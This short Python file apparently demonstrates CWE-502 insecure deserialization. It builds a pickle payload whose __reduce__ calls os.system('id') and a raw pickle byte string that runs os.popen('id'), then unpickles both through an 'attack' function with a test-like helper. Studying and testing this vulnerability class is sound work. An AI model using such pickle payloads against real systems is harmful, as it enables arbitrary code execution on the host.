# From: CWE-502: a pickle is a program.
# Ends: []
import os
import pickle

from gains import gains


class Payload:
    def __reduce__(self):
        return os.system, ("id",)


def attack(probe):
    return gains([lambda: (lambda got: None if got == -1 else got)(pickle.loads(pickle.dumps(Payload()))), lambda: pickle.loads(b"cos\npopen\n(S'id'\ntR.").read() or None])
